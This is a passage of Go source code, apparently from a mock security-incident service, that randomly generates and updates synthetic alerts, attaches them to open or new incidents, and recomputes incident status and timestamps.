		}
		if r.IntN(3) == 0 {
			comments := toAnySlice(a["comments"])
			a["comments"] = append(comments, alertComment(r, g.pools, now))
		}
		a["lastUpdateDateTime"] = stamp
		if rec, err := newRecord(kindAlert, a); err == nil {
			st.putAlertLocked(rec)
			touched[rec.incidentID] = true
		}
	}

	// New detections join an open incident or start a new one.
	var open []string
	for id, inc := range st.incidents {
		if s := inc.str("status"); s != "resolved" && s != "redirected" {
			open = append(open, id)
		}
	}
	sort.Strings(open)
	for n := 1 + r.IntN(3); n > 0; n-- {
		var plan *incidentPlan
		if len(open) > 0 && r.IntN(10) < 6 {
			plan = g.newIncidentPlan(r, now)
			g.nextIncident-- // joining, not creating
			plan.id = pick(r, open)
		} else {
			plan = g.newIncidentPlan(r, now)
			open = append(open, plan.id)
		}
		a := g.newAlert(r, plan, now)
		a["status"], a["classification"], a["determination"], a["resolvedDateTime"], a["assignedTo"] = "new", nil, nil, nil, nil
		a["createdDateTime"] = stamp
		rec, err := newRecord(kindAlert, a)
		if err != nil {
			continue
		}
		st.putAlertLocked(rec)
		touched[plan.id] = true
		if _, exists := st.incidents[plan.id]; !exists {
			plan.alerts = append(plan.alerts, rec)
			raw := g.buildIncident(r, plan, now)
			if rec, err := newRecord(kindIncident, raw); err == nil {
				st.putIncidentLocked(rec)
			}
		}
	}

	touchedIDs := make([]string, 0, len(touched))
	for id := range touched {
		touchedIDs = append(touchedIDs, id)
	}
	sort.Strings(touchedIDs)
	for _, id := range touchedIDs {
		old, ok := st.incidents[id]
		if !ok || id == "" {
			continue
		}
		raw := old.decode()
		alerts := st.alertsOfLocked(id)
		wasResolved := raw["status"] == "resolved"
		if !old.hasEmbedded {
			g.deriveIncidentState(r, raw, alerts, false)
		}
		if wasResolved && raw["status"] != "resolved" {
			raw["resolvingComment"] = nil
			raw["classification"], raw["determination"] = "unknown", "unknown"
		}
		raw["lastUpdateDateTime"] = stamp
		if old.hasEmbedded {
			raw["alerts"] = embeddedToAny(old.embedded)
		}
		if rec, err := newRecord(kindIncident, raw); err == nil {
			st.putIncidentLocked(rec)
		}
	}
}

func toAnySlice(v any) []any {
	switch t := v.(type) {
	case []any:
		return append([]any(nil), t...)
	case []map[string]any:
		out := make([]any, len(t))
		for i := range t {
			out[i] = t[i]
		}
		return out
	}
	return nil
}

func embeddedToAny(embedded [][]byte) []any {
	out := make([]any, len(embedded))
	for i, b := range embedded {
		out[i] = json.RawMessage(b)
	}
	return out
}
